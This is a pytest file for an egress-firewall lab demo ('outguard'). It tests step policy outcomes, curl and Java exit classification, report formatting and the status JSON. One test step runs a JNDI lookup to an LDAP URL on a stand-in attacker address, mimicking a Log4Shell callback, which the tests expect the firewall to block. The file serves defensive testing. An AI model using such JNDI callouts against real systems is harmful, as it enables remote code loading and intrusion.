"""Pure: the demo's steps, how client exits are classified, the report and the status contract."""

from __future__ import annotations

import json
import sys
from collections.abc import Sequence
from pathlib import Path

import pytest

from outguard.errors import LabError
from outguard.lab import demo, report, workload
from outguard.lab import topology as t
from outguard.lab.workload import Outcome, RunOutput

PATHS = t.LabPaths(Path("/run/x"))


def test_steps_follow_the_lab_policy() -> None:
    steps = {s.key: s for s in workload.demo_steps(PATHS)}
    expect = {
        "api-name": ("allowed", "allow:web-api"),
        "api-v6": ("allowed", "allow:web-api"),
        "api-https": ("allowed", "allow:web-api"),
        "mirror": ("allowed", "allow:package-mirror"),
        "unlisted": ("blocked", "default"),
        "jndi": ("blocked", "deny:attacker-net"),
        "attacker-v6": ("blocked", "deny:attacker-net"),
        "backup-root": ("blocked", "default"),
        "backup-nobody": ("allowed", "allow:backup-as-nobody"),
    }
    assert {k: (s.expected.value, s.counter) for k, s in steps.items()} == expect
    assert steps["api-name"].argv[-1] == "http://api.example.test/"
    assert steps["api-v6"].argv[-1] == "http://[2001:db8::10]/"
    assert steps["unlisted"].argv[-1] == "http://unlisted.example.test/"
    assert steps["jndi"].argv == ("java", "-cp", "/run/x/java", "JndiLookup",
                                  "ldap://198.51.100.66:1389/x", "2000")
    assert steps["backup-nobody"].argv[:4] == (
        "setpriv", "--reuid=nobody", "--regid=nogroup", "--clear-groups")
    assert steps["backup-root"].argv[0] == "curl"
    for s in steps.values():
        if s.client == "curl":
            argv = s.argv[s.argv.index("curl"):]
            assert argv[1] == "-q"  # no ~/.curlrc
            assert "--noproxy" in argv and "--connect-timeout" in argv
            assert s.timeout > workload.CURL_MAX_TIME
        assert s.rule in s.counter


def test_command_is_a_shell_line() -> None:
    step = workload.demo_steps(PATHS)[0]
    assert "--noproxy '*'" in step.command
    assert "'%{http_code} %{remote_ip} %{time_connect}'" in step.command


@pytest.mark.parametrize(("out", "observed", "detail"), [
    (RunOutput(0, "200 2001:db8::10 0.000123", ""), Outcome.ALLOWED, "HTTP 200 from 2001:db8::10"),
    (RunOutput(0, "404 203.0.113.10 0.0001", ""), Outcome.ALLOWED, "HTTP 404"),
    (RunOutput(28, "000  0.000000", "curl: (28) Connection timed out"), Outcome.BLOCKED, "timed out"),
    (RunOutput(28, "000 203.0.113.10 0.000200", "curl: (28) Operation timed out"), Outcome.ERROR,
     "exit 28"),
    (RunOutput(7, "000  0", "curl: (7) Failed to connect"), Outcome.BLOCKED, "refused"),
    (RunOutput(6, "000  0", "curl: (6) Could not resolve host"), Outcome.ERROR, "did not resolve"),
    (RunOutput(35, "000", "curl: (35) TLS"), Outcome.ERROR, "curl exit 35: curl: (35) TLS"),
    (RunOutput(None, "", ""), Outcome.ERROR, "deadline"),
])
def test_classify_curl(out: RunOutput, observed: Outcome, detail: str) -> None:
    got, text = workload.classify_curl(out)
    assert got is observed
    assert detail in text


@pytest.mark.parametrize(("out", "observed"), [
    (RunOutput(0, "REACHED after 150 ms: javax.naming.NameNotFoundException\n", ""), Outcome.ALLOWED),
    (RunOutput(3, "BLOCKED after 2100 ms: connect timed out\n", ""), Outcome.BLOCKED),
    (RunOutput(4, "ERROR after 1 ms: x\n", ""), Outcome.ERROR),
    (RunOutput(1, "", "Error: Could not find or load main class JndiLookup"), Outcome.ERROR),
    (RunOutput(None, "", ""), Outcome.ERROR),
])
def test_classify_java(out: RunOutput, observed: Outcome) -> None:
    assert workload.classify_java(out)[0] is observed


def _fake_runner(answers: dict[str, RunOutput]) -> workload.Runner:
    def run(argv: Sequence[str], timeout: float) -> RunOutput:
        assert timeout > 0
        return answers.get(argv[-1], RunOutput(0, "200 203.0.113.1 0.0001", ""))
    return run


def test_run_steps_with_a_fake_runner() -> None:
    steps = workload.demo_steps(PATHS)
    blocked = RunOutput(28, "000  0.000000", "")
    answers = {
        "http://unlisted.example.test/": blocked,
        "2000": RunOutput(3, "BLOCKED after 2000 ms: connect timed out", ""),
        "http://[2001:db8:bad::66]:8080/": blocked,
    }
    seen: list[str] = []
    results = workload.run_steps(steps, _fake_runner(answers), lambda r: seen.append(r.step.key))
    assert seen == [s.key for s in steps]
    # backup-root and backup-nobody share a URL; the fake allows both -> backup-root differs.
    assert [r.step.key for r in results if not r.ok] == ["backup-root"]


def _results() -> list[workload.StepResult]:
    steps = workload.demo_steps(PATHS)
    out = []
    for s in steps:
        observed = s.expected if s.key != "jndi" else Outcome.ALLOWED
        out.append(workload.StepResult(s, observed, "detail text", 0.5))
    return out


def test_report_marks_each_step_and_lists_counters() -> None:
    counters = {"default": report.Counter(6, 400), "allow:web-api": report.Counter(3, 240),
                "deny:attacker-net": report.Counter(0, 0), "allow:lab-dns": report.Counter(7, 450)}
    text = report.format_report("examples/lab-policy.yaml", _results(), counters)
    lines = text.splitlines()
    assert lines[0] == "outguard lab demo: examples/lab-policy.yaml enforced in og-lab-server"
    assert sum(1 for ln in lines if ln.lstrip().startswith(report.OK_MARK)) == 8
    bad = [ln for ln in lines if ln.lstrip().startswith(report.BAD_MARK)]
    assert len(bad) == 1 and "ALLOWED" in bad[0] and "attacker-net" in bad[0]
    assert "$ java -cp /run/x/java JndiLookup ldap://198.51.100.66:1389/x 2000" in text
    assert "8 of 9 steps as expected; differs: jndi (expected blocked, got allowed)." in text
    counter_rows = [ln.split() for ln in lines if ln.strip().startswith(("allow:", "deny:", "default"))]
    assert [r[0] for r in counter_rows] == [
        "allow:lab-dns", "allow:web-api", "deny:attacker-net", "default"]
    assert counter_rows[-1] == ["default", "6", "400"]
    assert "outguard lab down" in text


def test_report_without_counters_and_after_down() -> None:
    text = report.format_report("p.yaml", _results(), None, "outguard status exit 2: boom",
                                lab_left_up=False)
    assert "counters unavailable: outguard status exit 2: boom" in text
    assert "The lab has been removed." in text


def test_status_json_contract() -> None:
    doc = {"applied": True, "policy_hash": "ab", "applied_at": "2026-01-01T00:00:00Z",
           "mode": "enforce", "pending_confirmation": None,
           "counters": {"allow:web-api": {"packets": 3, "bytes": 240},
                        "default": {"packets": 1, "bytes": 60}}}
    assert demo.parse_status(json.dumps(doc)) == {
        "allow:web-api": report.Counter(3, 240), "default": report.Counter(1, 60)}
    for bad in ("not json", "[]", '{"counters": 1}', '{"counters": {"x": {"packets": 1}}}'):
        with pytest.raises(LabError):
            demo.parse_status(bad)


def test_cli_argv_contract() -> None:
    policy = Path("examples/lab-policy.yaml")
    assert demo.apply_argv(policy, PATHS) == [
        "ip", "netns", "exec", "og-lab-server",
        sys.executable, "-m", "outguard", "apply", "--netns", "og-lab-server",
        "--state-dir", "/run/x/state", "examples/lab-policy.yaml"]
    assert demo.status_argv(PATHS) == [
        sys.executable, "-m", "outguard", "status", "--netns", "og-lab-server",
        "--state-dir", "/run/x/state", "--json"]


def test_find_policy(tmp_path: Path) -> None:
    found = demo.find_policy(cwd=tmp_path)  # falls back to the source tree's examples/
    assert found.name == "lab-policy.yaml" and found.is_file()
    mine = tmp_path / "examples" / "lab-policy.yaml"
    mine.parent.mkdir()
    mine.write_text("version: 1\n")
    assert demo.find_policy(cwd=tmp_path) == mine
    with pytest.raises(LabError, match="does not exist"):
        demo.find_policy(tmp_path / "missing.yaml")
